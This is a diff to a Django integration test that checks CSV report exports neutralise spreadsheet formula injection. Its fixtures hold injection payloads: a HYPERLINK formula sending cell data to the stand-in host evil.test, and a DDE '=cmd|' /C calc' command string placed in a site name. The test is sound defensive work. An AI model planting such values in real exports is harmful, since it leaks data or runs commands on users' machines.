@@ -11,9 +11,15 @@ import pytest
 from portal.reports.models import DigestSent
 from portal.reports.services.digest import digest_send
 from portal.reports.services.snapshot import snapshot_take
-from portal.sites.models import Profile, SiteGrant
+from portal.sites.models import Profile, Site, SiteGrant
 from tests.integration.notifications.servers import Mailbox
-from tests.integration.reports.test_snapshots import S1, S2, history  # noqa: F401 (fixture)
+from tests.integration.reports.test_snapshots import (  # noqa: F401 (history is a fixture)
+    S1,
+    S2,
+    at,
+    history,
+    set_time,
+)
 from tests.standin_sites import connect_user
 
 pytestmark = pytest.mark.django_db(transaction=True)  # the inbox reads sites in threads
@@ -99,6 +105,37 @@ def test_csv_exports_carry_a_bom_and_read_back_in_arabic(client, lead):
     assert by_user[S1][3:6] == ["3", "2", "1"] and by_user[S2][3:6] == ["1", "1", "1"]
     worst = client.get(f"/reports/export/worst.csv?{PERIOD}").content.decode("utf-8-sig")
     assert "اجتماع مع العميل" in worst
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_quoted_text(
+    client, lead, settings, tmp_path
+):
+    user, site, handle, names = lead
+    set_time(settings, tmp_path, handle, at("2026-11-23 12:05"))  # a newer snapshot than lead's
+    handle.control.insert_tasks([
+        {"title": title, "status": "Todo", "priority": "High", "assignees": [S1],
+         "start_date": "2026-11-15 09:00:00", "due_date": "2026-11-20 09:00:00"}
+        for title in FORMULAS
+    ])  # fmt: skip
+    snapshot_take(site=site)
+    Site.objects.filter(pk=site.pk).update(name="=cmd|' /C calc'!A0")
+    client.force_login(user)
+
+    worst = client.get(f"/reports/export/worst.csv?{PERIOD}").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(worst, newline="")))
+
+    titles = {row[2] for row in rows[1:]}
+    assert {"'" + title for title in FORMULAS} <= titles
+    assert {row[0] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
+    assert all(row[3].isdigit() for row in rows[1:])  # days overdue stay numbers
+    for table in ("sites", "people"):
+        body = client.get(f"/reports/export/{table}.csv?{PERIOD}").content.decode("utf-8-sig")
+        cells = [row[0] for row in list(csv.reader(io.StringIO(body, newline="")))[1:]]
+        assert cells and set(cells) == {"'=cmd|' /C calc'!A0"}, table
 
 
 def test_members_may_not_see_reports(client, django_user_model):
